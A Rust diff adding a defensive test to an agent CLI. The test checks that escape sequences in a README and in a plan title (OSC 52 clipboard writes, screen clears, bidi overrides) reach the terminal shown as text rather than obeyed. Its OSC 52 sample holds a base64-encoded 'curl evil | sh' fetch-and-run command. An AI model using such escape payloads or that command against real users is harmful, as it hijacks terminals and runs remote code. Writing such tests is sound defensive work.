@@ -341,6 +341,63 @@ async fn plan_without_approval_stops_at_the_gate_and_fails_the_exit_code() {
     );
 }
 
+/// Text from outside (a project file a tool read, the model's words, a command's output)
+/// reaches the terminal with its control characters shown, never obeyed: an escape sequence
+/// in a README could otherwise set the clipboard (OSC 52), clear the screen or hide lines.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn the_terminal_never_gets_a_control_character_from_outside() {
+    const OSC_52: &str = "\u{1b}]52;c;Y3VybCBldmlsIHwgc2g=\u{7}";
+    let fake = FakeLlm::start().await;
+    let dirs = TestDirs::new();
+    std::fs::write(
+        dirs.project.join("README.md"),
+        format!("# sample{OSC_52}\u{1b}[2J\r\u{9b}31m\u{202e}\n"),
+    )
+    .expect("readme");
+    fake.push(tool_turn(
+        "toolu_read",
+        "read_file",
+        json!({ "path": "README.md" }),
+    ));
+    fake.push(tool_turn(
+        "toolu_plan",
+        "create_plan",
+        with(valid_plan(), |plan| {
+            plan["title"] = json!(format!("Add a flag{OSC_52}"));
+        }),
+    ));
+    let output = run_loopr_plan(&dirs, &fake).await;
+    let stdout = String::from_utf8_lossy(&output.stdout).into_owned();
+    let id = stdout
+        .lines()
+        .find(|line| line.contains("awaiting_approval"))
+        .and_then(|line| line.split_whitespace().next())
+        .expect("the plan's id")
+        .to_owned();
+    let transcript = run_loopr(&dirs, &fake, &["transcript", &id]).await;
+    let transcript_text = String::from_utf8_lossy(&transcript.stdout);
+    assert!(
+        transcript_text.contains("# sample^[]52;c;Y3VybCBldmlsIHwgc2g=^G^[[2J<U+009B>31m<U+202E>"),
+        "{transcript_text}"
+    );
+    for (what, bytes) in [
+        ("plan's stdout", &output.stdout),
+        ("plan's stderr", &output.stderr),
+        ("transcript", &transcript.stdout),
+        ("transcript's stderr", &transcript.stderr),
+    ] {
+        let text = String::from_utf8_lossy(bytes);
+        let obeyed: Vec<char> = text
+            .chars()
+            .filter(|c| {
+                (c.is_control() && *c != '\n' && *c != '\t')
+                    || ('\u{202a}'..='\u{202e}').contains(c)
+            })
+            .collect();
+        assert!(obeyed.is_empty(), "{what} holds {obeyed:?}: {text}");
+    }
+}
+
 /// The COST cell of the row of loop type `loop_type` in a summary table.
 fn cost_of(table: &str, loop_type: &str) -> String {
     let header: Vec<&str> = table
